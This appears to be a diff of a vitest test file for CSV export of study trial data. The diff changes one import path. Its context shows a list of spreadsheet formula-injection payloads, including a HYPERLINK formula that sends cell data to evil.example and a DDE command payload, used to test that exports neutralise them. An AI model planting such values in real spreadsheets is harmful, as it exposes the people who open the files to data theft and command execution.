@@ -6,7 +6,7 @@
 import { describe, expect, it } from 'vitest';
 import type { RelationTrialRow } from '../../../src/shared/kinds/relation/api';
 import { PARTICIPANTS_TABLE, tableCsv } from '../../../src/shared/study/export-tables';
-import { relationCsv } from '../../../src/main/kinds/relation/study/trials';
+import { relationCsv } from '../../../src/main/kinds/relation/log-trials';
 
 /** The formula set: every form a spreadsheet evaluates (ASCII and full-width signs, leading spaces, tabs). */
 const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', ' =1+1', '\t=1+1', '\uff1d1+1', '+cmd|"/c calc"!A0', '-2+3', '@SUM(A1:A9)', '\u3000=1', '\r=1'];
